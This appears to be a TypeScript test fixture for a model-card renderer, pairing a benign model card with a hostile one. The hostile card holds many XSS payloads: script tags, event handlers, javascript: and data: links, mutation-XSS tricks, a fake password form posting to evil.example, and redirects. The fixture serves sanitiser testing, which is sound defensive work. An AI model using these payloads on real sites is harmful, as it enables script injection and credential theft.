/** Model descriptions of teams: one as intended, one hostile. */

export const MODEL_CARD = `# MVP-Integrator

A reproduction from the authors' **published code**, exported with a dynamic batch.

## What it was trained on

| data | images |
| --- | --- |
| MAC, train | 18,022 |
| nothing else | |

1. Prompts are learnt for each attribute.
2. The text tower is frozen; see the [code](https://example.org/code).

\`\`\`sh
python export.py --opset 17
\`\`\`

> Figures differ from the paper's in the second decimal.`;

const HARM = "globalThis.harmed = true; document.title = 'harmed'";

export const HOSTILE_CARD = `# Harm<script>${HARM}</script>

<img src=x onerror="${HARM}"> <svg onload="${HARM}"><script>${HARM}</script></svg>

<iframe srcdoc="<script>parent.harmed = true</script>"></iframe><object data="https://evil.example/x"></object>

[press](javascript:globalThis.harmed=true) [or this](data:text/html,<script>alert(1)</script>) [vb](vbscript:x) [tab](java	script:x)

![a picture](https://evil.example/pixel.png) ![two](javascript:globalThis.harmed=true)

<a href="https://example.org" onclick="${HARM}" style="position:fixed;inset:0" id="harmed" target="_top">honest words</a>

<form action="https://evil.example"><input name="password" autofocus onfocus="${HARM}"><button>Sign in</button></form>

<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css"><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">

**the honest words**, by <https://example.org/mail> and <mailto:someone@example.org>

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=globalThis.harmed=true&gt;">

<noscript><p title="</noscript><img src=x onerror=globalThis.harmed=true>"></noscript>`;
